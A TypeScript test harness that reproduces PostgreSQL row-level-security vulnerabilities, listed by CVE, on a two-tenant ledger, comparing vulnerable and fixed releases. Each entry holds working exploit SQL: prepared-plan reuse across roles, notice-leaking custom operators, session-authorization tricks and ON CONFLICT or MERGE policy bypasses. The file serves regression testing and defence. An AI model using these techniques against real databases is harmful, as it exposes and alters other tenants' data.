import pg from 'pg';
import type { ServerHole } from '../../../../src/targets/postgres/server-holes.ts';
import { withClient } from '../../../../src/testing/pg-client.ts';
import type { Release } from './servers.ts';

/** Both tenants have one entry in a ledger; each policy lets one role see its own. */
export const ledger = `
  create table ledger (id int primary key, tenant text not null, body text not null);
  insert into ledger values (1, 'tenant_a', 'entry of a'), (2, 'tenant_b', 'secret of b');
  grant select, insert, update on ledger to tenant_a, tenant_b, clerk;
  alter table ledger enable row level security;
  create policy a on ledger to tenant_a using (tenant = 'tenant_a');
  create policy b on ledger to tenant_b using (tenant = 'tenant_b');
  create schema own; grant all on schema own to tenant_a`;

export type Reproduction = {
  readonly hole: ServerHole['id'];
  /** The release before the fix, and one with it, as near as they can be had. */
  readonly open: Release;
  readonly mended: Release;
  /** What the database has besides the ledger. */
  readonly schema: string;
  /** What tenant_a got of tenant_b by the attack; nothing where the server stopped it. */
  attack(client: pg.Client, admin: pg.Client, database: string): Promise<readonly string[]>;
};

const tenants = async (client: pg.Client, sql: string): Promise<readonly string[]> =>
  (await client.query<{ tenant: string }>(sql)).rows.map(({ tenant }) => tenant);

/** The attack was stopped, and by what ought to stop it. */
function refusal(error: unknown, state: string): 0 {
  if (error instanceof pg.DatabaseError && error.code === state) return 0;
  throw error;
}

const foreign = (seen: readonly string[]): readonly string[] => seen.filter((text) => text.includes('b'));

/** Notices that the statement raised, and what the error said, whichever way the server chose to talk. */
async function heard(client: pg.Client, sql: string): Promise<readonly string[]> {
  const texts: string[] = [];
  const listen = ({ message }: { message?: string | undefined }): void => void texts.push(message ?? '');
  client.on('notice', listen);
  await client.query(sql).catch((error: unknown) => texts.push(String(error)));
  client.off('notice', listen);
  return texts;
}

const keptPlan = (body: string): Pick<Reproduction, 'schema' | 'attack'> => ({
  schema: `create function entries() returns setof ledger language sql stable as '${body}'`,
  async attack(client) {
    await client.query('prepare kept as select tenant from entries()');
    await client.query('set role tenant_b');
    await client.query('execute kept');
    await client.query('set role tenant_a');
    return foreign(await tenants(client, 'execute kept'));
  },
});

export const reproductions: readonly Reproduction[] = [
  { hole: 'CVE-2023-2455', open: '15.1', mended: '15.8', ...keptPlan('select * from ledger') },
  {
    hole: 'CVE-2023-39418',
    open: '15.1',
    mended: '15.8',
    schema: `drop policy a on ledger;
      create policy see on ledger for select to tenant_a using (true);
      create policy add on ledger for insert to tenant_a with check (true);
      create policy mend on ledger for update to tenant_a using (tenant = 'tenant_a') with check (tenant = 'tenant_a')`,
    async attack(client) {
      await client.query('set role tenant_a');
      const change = `merge into ledger using (select 1 as id) wanted on wanted.id = ledger.id
        when matched then update set tenant = 'tenant_b'`;
      const given = await client.query(change).then(
        ({ rowCount }) => rowCount ?? 0,
        (error: unknown) => refusal(error, '42501'),
      );
      return given === 0 ? [] : ['given to tenant_b'];
    },
  },
  {
    hole: 'CVE-2024-4317',
    open: '15.1',
    mended: '15.8',
    schema: `create table wages (id int, wage int);
      insert into wages select n, 4200 from generate_series(1, 500) n;
      create statistics of_wages on id, (wage * 1) from wages; analyze wages`,
    async attack(client) {
      await client.query('set role tenant_a');
      const { rows } = await client.query<{ seen: string }>(
        'select most_common_vals::text as seen from pg_stats_ext_exprs where most_common_vals is not null',
      );
      return rows.map(({ seen }) => seen);
    },
  },
  {
    hole: 'CVE-2024-10976',
    open: '15.8',
    mended: '15.18',
    ...keptPlan('select * from (select * from ledger) below'),
  },
  {
    hole: 'CVE-2024-10978',
    open: '15.8',
    mended: '15.18',
    schema: 'create policy clerk on ledger to clerk using (true)',
    async attack(_client, _admin, database) {
      const url = new URL(database);
      [url.username, url.password] = ['clerk', 'clerk'];
      return withClient(url.href, async (client) => {
        await client.query('set role tenant_a');
        await client.query('begin');
        await client.query('set local session authorization clerk');
        await client.query('rollback');
        return foreign(await tenants(client, 'select tenant from ledger'));
      });
    },
  },
  {
    hole: 'CVE-2025-8713',
    open: '15.8',
    mended: '15.18',
    schema: `create table wages (tenant text, wage int) partition by list (tenant);
      create table wages_a partition of wages for values in ('tenant_a');
      create table wages_b partition of wages for values in ('tenant_b');
      insert into wages select 'tenant_b', 4200 + n % 7 from generate_series(1, 500) n; analyze wages;
      alter table wages enable row level security; create policy own on wages using (tenant = current_user);
      alter table wages_b enable row level security; create policy own on wages_b using (tenant = current_user);
      grant select on wages, wages_b to tenant_a`,
    async attack(client) {
      await client.query(`set role tenant_a;
        create function own.leak(int, int) returns bool language plpgsql as
          $$ begin raise notice 'b earns %', $1; return $1 < $2; end $$;
        create operator own.<<< (procedure = own.leak, leftarg = int, rightarg = int, restrict = scalarltsel)`);
      return foreign(await heard(client, 'explain select * from wages where wage operator(own.<<<) 1'));
    },
  },
  {
    hole: 'CVE-2026-14666',
    open: '15.18',
    mended: 'clean',
    schema: 'alter role clerk bypassrls',
    async attack(client, admin) {
      await client.query('set role clerk');
      await client.query('prepare kept as select tenant from ledger');
      await client.query('execute kept');
      await admin.query('alter role clerk nobypassrls');
      return foreign(await tenants(client, 'execute kept'));
    },
  },
  {
    hole: 'CVE-2026-16237',
    open: '15.18',
    mended: 'clean',
    schema: `create view mine as select * from ledger where tenant = current_user;
      grant select, insert, update on mine to tenant_a`,
    async attack(client) {
      await client.query('set role tenant_a');
      const change = `insert into mine values (2, 'tenant_a', '') on conflict (id) do update set body = 'overwritten'`;
      await client.query(change).catch((error: unknown) => refusal(error, '55000'));
      await client.query('reset role');
      const { rows } = await client.query<{ body: string }>('select body from ledger where id = 2');
      return rows.map(({ body }) => body).filter((body) => body === 'overwritten');
    },
  },
  {
    hole: 'CVE-2026-116311',
    open: '15.18',
    mended: 'clean',
    schema: `create policy wide on ledger using (true);
      create policy floor on ledger as restrictive to tenant_a using (tenant = 'tenant_a')`,
    async attack(client) {
      await client.query('set role tenant_a');
      await client.query('drop owned by tenant_a');
      return foreign(await tenants(client, 'select tenant from ledger'));
    },
  },
  {
    hole: 'CVE-2026-116327',
    open: '15.18',
    mended: 'clean',
    schema: '',
    async attack(client) {
      await client.query(`set role tenant_a;
        create function own.leak(text, int) returns bool language plpgsql cost 0.0001 as
          $$ begin raise notice '%', $1; return false; end $$;
        create operator own.= (procedure = own.leak, leftarg = text, rightarg = int);
        set search_path = own, public, pg_catalog`);
      const said = await heard(client, 'select from ledger where case body when 1 then true end');
      if (!said.includes('entry of a')) throw new Error('the operator was not asked at all');
      return said.filter((text) => text.includes('secret of b'));
    },
  },
  {
    hole: 'CVE-2026-120154',
    open: '15.18',
    mended: 'clean',
    schema: '',
    async attack(client) {
      await client.query('set role tenant_a');
      const reading = `insert into ledger values (2, 'tenant_a', '')
        on conflict (id) do update set body = '' where ledger.body::int > 0`;
      return (await heard(client, reading)).filter((text) => text.includes('secret of b'));
    },
  },
];
